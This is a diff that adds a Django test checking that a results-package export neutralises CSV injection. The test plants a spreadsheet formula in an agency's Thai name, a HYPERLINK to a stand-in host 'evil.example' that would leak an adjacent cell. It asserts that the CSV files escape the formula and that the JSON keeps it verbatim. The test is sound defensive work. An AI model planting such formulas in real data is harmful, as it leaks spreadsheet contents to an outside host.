@@ -16,6 +16,7 @@ from django.utils.html import escape
 from pytest_django.asserts import assertContains, assertNotContains
 
 from agencies import roles
+from agencies.models import Agency
 from agencies.tests.factories import (
     DepartmentFactory,
     ProvinceFactory,
@@ -445,6 +446,24 @@ def test_package_winners_are_the_published_awards(client, published, committee_m
         published.a.name_en,
         published.b.name_en,
     ]
+
+
+def test_package_csv_writes_formulas_as_text_and_json_as_they_are(
+    client, published, committee_member, dga_staff
+):
+    # OWASP's "CSV Injection": a name that a spreadsheet would run as a link to another site.
+    hyperlink = '=HYPERLINK("https://evil.example/?leak="&B2,"ดูผล")'
+    Agency.objects.filter(pk=published.a.pk).update(name_th=hyperlink)
+    SurveyYear.objects.filter(pk=published.year.pk).update(publish_agency_scores=True)
+    awards_of_published_year(published.year, member=committee_member, staff=dga_staff)
+
+    archive = package_of(client.get(reverse("results:package", args=[YEAR])))
+
+    assert csv_rows(archive, "winners.csv")[0]["winner_name_th"] == f"'{hyperlink}"
+    assert csv_rows(archive, "agency_scores.csv")[0]["name_th"] == f"'{hyperlink}"
+    # JSON is read by programs, not spreadsheets: the name as it is.
+    assert json_rows(archive, "winners.json")[0]["winner_name_th"] == hyperlink
+    assert json_rows(archive, "agency_scores.json")[0]["name_th"] == hyperlink
 
 
 def test_package_winners_wait_for_the_publication_of_the_year(client, registry, committee_member):
